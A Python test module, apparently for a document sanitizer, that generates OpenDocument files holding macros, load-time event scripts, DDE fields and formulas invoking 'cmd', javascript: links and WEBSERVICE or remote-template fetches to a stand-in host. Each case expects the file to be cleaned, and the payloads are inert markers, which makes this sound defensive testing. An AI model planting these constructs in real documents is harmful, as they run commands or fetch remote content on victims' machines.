"""OpenDocument texts, sheets and slides that run, fetch or carry."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from tests.hostile.cases import MARK, Case
from tests.hostile.cases import TEXT_MARK as EVIL
from tests.hostile.office_writer import HEAD, zipped

HERE = f"http://{EVIL}.example/"
OASIS = "urn:oasis:names:tc:opendocument:xmlns:"
PREFIXES = (
    *(
        "office",
        "text",
        "table",
        "style",
        "form",
        "script",
        "config",
        "meta",
        "presentation",
        "chart",
        "database",
    ),
    "animation",
)
NAMES = " ".join(f'xmlns:{name}="{OASIS}{name}:1.0"' for name in PREFIXES) + (
    f' xmlns:draw="{OASIS}drawing:1.0" xmlns:svg="{OASIS}svg-compatible:1.0" xmlns:fo="{OASIS}xsl-fo-compatible:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xforms="http://www.w3.org/2002/xforms"'
    ' xmlns:ooo="http://openoffice.org/2004/office" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    ' xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" xmlns:math="http://www.w3.org/1998/Math/MathML"'
)
TYPES = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}


@dataclass
class Document:
    """An OpenDocument file: what stands in its body, before it, in its styles and its settings; further parts."""

    kind: str
    body: str = ""
    before: str = ""
    styles: str = ""
    settings: str = ""
    meta: str = ""
    parts: dict[str, str | bytes] = field(default_factory=dict)
    listed: list[tuple[str, str]] = field(default_factory=list)

    def bytes(self) -> bytes:
        """The document as a file."""
        name = TYPES[self.kind]
        table = '<table:table table:name="A"><table:table-row><table:table-cell>{}</table:table-cell></table:table-row></table:table>'
        inner = {"odt": "<text:p>Hello</text:p>{}", "ods": table, "odp": "<draw:page>{}</draw:page>"}[
            self.kind
        ]
        entries = "".join(
            f'<m:file-entry m:full-path="{path}" m:media-type="{kind}"/>'
            for path, kind in [("/", f"application/vnd.oasis.opendocument.{name}"), *self.listed]
        )
        made: dict[str, str | bytes] = {
            "mimetype": f"application/vnd.oasis.opendocument.{name}",
            "content.xml": f"{HEAD}<office:document-content {NAMES}>{self.before}<office:body><office:{name}>"
            f"{inner.format(self.body)}</office:{name}></office:body></office:document-content>",
            "styles.xml": f"{HEAD}<office:document-styles {NAMES}>{self.styles}</office:document-styles>",
            "settings.xml": f"{HEAD}<office:document-settings {NAMES}>{self.settings}</office:document-settings>",
            "meta.xml": f"{HEAD}<office:document-meta {NAMES}><office:meta>{self.meta}</office:meta></office:document-meta>",
            "META-INF/manifest.xml": f'{HEAD}<m:manifest xmlns:m="{OASIS}manifest:1.0">{entries}</m:manifest>',
        }
        return zipped({**made, **self.parts})


Place = Callable[[Document], None]


def put(name: str, text: str) -> Place:
    """A place: the text in one of the document's stretches."""
    return lambda document: setattr(document, name, getattr(document, name) + text)


def part(name: str, content: str | bytes, body: str = "", kind: str = "") -> Place:
    """A place: a further part, which the body may show."""

    def place(document: Document) -> None:
        document.parts[name] = content
        document.body += body
        document.listed.append((name, kind or "application/octet-stream"))

    return place


def nested(inner: str) -> Place:
    """A chart in the document that holds something itself."""

    def place(document: Document) -> None:
        document.listed.append(("Object 1/", "application/vnd.oasis.opendocument.chart"))
        document.parts["Object 1/content.xml"] = (
            f"<office:document-content {NAMES}>{inner}</office:document-content>"
        )
        document.body += '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'

    return place


def cell(formula: str) -> Place:
    return put(
        "body",
        f'<table:table><table:table-row><table:table-cell table:formula="{formula}"/></table:table-row></table:table>',
    )


LISTENER = f'<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:{EVIL}"/></office:event-listeners>'
EVERYWHERE: dict[str, Place] = {
    "macros of the document": part("Basic/Standard/Module1.xml", f"<script:module>{EVIL}</script:module>"),
    "scripts in Python": part("Scripts/python/a.py", MARK),
    "dialogs": part("Dialogs/Standard/a.xml", f"<a>{EVIL}</a>"),
    "menus": part("Configurations2/accelerator/current.xml", f"<a>{EVIL}</a>"),
    "small picture": part("Thumbnails/thumbnail.png", MARK),
    "signature": part("META-INF/documentsignatures.xml", f"<a>{EVIL}</a>"),
    "earlier version": part("Versions/Version1", MARK),
    "program that nothing leads to": part("evil.exe", b"MZ" + MARK),
    "scripts in the text": put(
        "before",
        f"<office:scripts><office:script script:language='ooo:Basic'>{EVIL}</office:script></office:scripts>",
    ),
    "event of the document": put("before", f"<office:scripts>{LISTENER}</office:scripts>"),
    "event of a drawing": put("body", f"<draw:frame>{LISTENER}</draw:frame>"),
    "event of a slide": put(
        "body",
        f'<draw:custom-shape><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="{EVIL}.exe"/></office:event-listeners></draw:custom-shape>',
    ),
    "plugin": put("body", f'<draw:frame><draw:plugin xlink:href="{HERE}" draw:mime-type="a"/></draw:frame>'),
    "applet": put("body", f'<draw:frame><draw:applet draw:code="{EVIL}" xlink:href="{HERE}"/></draw:frame>'),
    "floating frame": put("body", f'<draw:frame><draw:floating-frame xlink:href="{HERE}"/></draw:frame>'),
    "object": part("Object 1", MARK, '<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>'),
    "object elsewhere": put("body", f'<draw:frame><draw:object xlink:href="file:///{EVIL}"/></draw:frame>'),
    "object of no known kind": part(
        "Object 2/a.bin", MARK, '<draw:frame><draw:object xlink:href="./Object 2"/></draw:frame>'
    ),
    "picture elsewhere": put("body", f'<draw:frame><draw:image xlink:href="{HERE}a.png"/></draw:frame>'),
    "picture on a share": put(
        "body", f'<draw:frame><draw:image xlink:href="file://{EVIL}/a.png"/></draw:frame>'
    ),
    "picture outside": put("body", f'<draw:frame><draw:image xlink:href="../{EVIL}.png"/></draw:frame>'),
    "picture that is a program": part(
        "Pictures/a.png", b"MZ" + MARK, '<draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame>'
    ),
    "picture in the text": put(
        "body",
        f"<draw:frame><draw:image><office:binary-data>{EVIL}</office:binary-data></draw:image></draw:frame>",
    ),
    "drawing with a script": part(
        "Pictures/a.svg",
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>{EVIL}</script></svg>",
        '<draw:frame><draw:image xlink:href="Pictures/a.svg"/></draw:frame>',
    ),
    "fill from elsewhere": put(
        "styles", f'<office:styles><draw:fill-image xlink:href="{HERE}"/></office:styles>'
    ),
    "background from elsewhere": put(
        "styles",
        f'<office:styles><style:style><style:background-image xlink:href="{HERE}"/></style:style></office:styles>',
    ),
    "font from elsewhere": put(
        "before",
        f'<office:font-face-decls><style:font-face><svg:font-face-src><svg:font-face-uri xlink:href="{HERE}"/></svg:font-face-src></style:font-face></office:font-face-decls>',
    ),
    "form that sends": put(
        "body",
        f'<office:forms><form:form xlink:href="{HERE}" form:command="{EVIL}" form:datasource="{EVIL}"/></office:forms>',
    ),
    "button": put(
        "body",
        f'<office:forms><form:form><form:button form:button-type="url" xlink:href="javascript:{EVIL}">{LISTENER}</form:button></form:form></office:forms>',
    ),
    "XForms": put(
        "body",
        f'<office:forms><xforms:model><xforms:submission action="{HERE}"/></xforms:model></office:forms>',
    ),
    "printer": put(
        "settings",
        f'<office:settings><config:config-item config:name="PrinterName">{EVIL}</config:config-item></office:settings>',
    ),
    "password": put(
        "settings",
        f'<office:settings><config:config-item config:name="ModifyPasswordInfo">{EVIL}</config:config-item></office:settings>',
    ),
    "author": put(
        "meta", f"<dc:creator>{EVIL}</dc:creator><meta:initial-creator>{EVIL}</meta:initial-creator>"
    ),
    "own words": put("meta", f'<meta:user-defined meta:name="a">{EVIL}</meta:user-defined>'),
    "template": put(
        "meta", f'<meta:template xlink:href="{HERE}a.ott"/><meta:auto-reload xlink:href="{HERE}"/>'
    ),
    "macro of a field": put(
        "body", f'<text:p><text:execute-macro text:name="{EVIL}">x</text:execute-macro></text:p>'
    ),
    "script field": put("body", f'<text:p><text:script script:language="a">{EVIL}</text:script></text:p>'),
    "script field elsewhere": put(
        "body", f'<text:p><text:script script:language="a" xlink:href="{HERE}"/></text:p>'
    ),
    "DDE field": put(
        "body",
        f'<text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd" office:dde-topic="{EVIL}"/></text:dde-connection-decls>',
    ),
    "DDE of a section": put(
        "body", f'<text:section><office:dde-source office:dde-application="{EVIL}"/></text:section>'
    ),
    "section elsewhere": put(
        "body", f'<text:section><text:section-source xlink:href="{HERE}"/></text:section>'
    ),
    "database field": put(
        "body",
        f'<text:p><text:database-display><form:connection-resource xlink:href="{HERE}"/></text:database-display></text:p>',
    ),
    "sheet elsewhere": put("body", f'<table:table><table:table-source xlink:href="{HERE}"/></table:table>'),
    "range elsewhere": put(
        "body", f'<table:table><table:cell-range-source xlink:href="{HERE}" table:name="a"/></table:table>'
    ),
    "DDE link": put(
        "body",
        f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="{EVIL}"/></table:dde-link></table:dde-links>',
    ),
    "query": put(
        "body",
        f'<table:database-ranges><table:database-source-sql table:sql-statement="{EVIL}"/></table:database-ranges>',
    ),
    "macro of a cell": put("body", f'<table:table table:macro-name="{EVIL}"/>'),
    "sound": put("body", f'<draw:page><presentation:sound xlink:href="{HERE}"/></draw:page>'),
    "command": put("body", f'<draw:page><animation:command animation:command="{EVIL}"/></draw:page>'),
    "film": part("Media/a.mp4", MARK, '<draw:frame><draw:plugin xlink:href="Media/a.mp4"/></draw:frame>'),
    "chart that reads elsewhere": nested(
        f'<office:body><office:chart><table:table><table:table-source xlink:href="{HERE}"/></table:table></office:chart></office:body>'
    ),
    "chart with macros": nested(f"<office:scripts>{LISTENER}</office:scripts>"),
    "formula of mathematics": nested(
        f'<math:math><math:mtext xlink:href="javascript:{EVIL}">x</math:mtext></math:math>'
    ),
    **{
        f"link {address.split('/')[0]}": put(
            "body", f'<text:p><text:a xlink:href="{address}{EVIL}">x</text:a></text:p>'
        )
        for address in (
            "javascript:",
            "vnd.sun.star.script:",
            "file:///",
            "macro:///",
            "../",
            "smb://",
            "slot:",
            ".uno:",
            "service:",
        )
    },
}
FORMULAS = {
    "DDE": f"of:=DDE(&quot;cmd&quot;;&quot;{EVIL}&quot;;&quot;a&quot;)",
    "service": f"of:=WEBSERVICE(&quot;{HERE}&quot;)",
    "another file": f"of:=['file:///{EVIL}.ods'#$A.A1]",
    "file on the web": f"of:=['{HERE}a.ods'#$A.A1]",
    "link": f"of:=HYPERLINK(&quot;javascript:{EVIL}&quot;;&quot;x&quot;)",
    "Microsoft's way": f"msoxl:=cmd|'/c {EVIL}'!A0",
    "without a prefix": f"=WEBSERVICE(&quot;{HERE}&quot;)",
}


def cases() -> Iterator[Case]:
    """Every place in texts; sheets and slides take turns at them; formulas in sheets."""
    for number, (place, do) in enumerate(EVERYWHERE.items()):
        for kind in ("odt", "ods" if number % 2 else "odp"):
            yield Case(f"{kind} {place}", _maker(kind, do), "cleaned")
    for name, formula in FORMULAS.items():
        yield Case(f"ods formula {name}", _maker("ods", cell(formula)), "cleaned")
    encrypted = (
        f'<m:manifest xmlns:m="{OASIS}manifest:1.0"><m:encryption-data m:checksum="{EVIL}"/></m:manifest>'
    )
    yield Case("odt behind a password", _maker("odt", part("META-INF/manifest.xml", encrypted)), "encrypted")
    flat = f'<office:document {NAMES} office:mimetype="a"><office:scripts>{EVIL}</office:scripts></office:document>'
    yield Case("odt in one piece", lambda: flat.encode(), "type")


def _maker(kind: str, do: Place) -> Callable[[], bytes]:
    def make() -> bytes:
        document = Document(kind)
        do(document)
        return document.bytes()

    return make
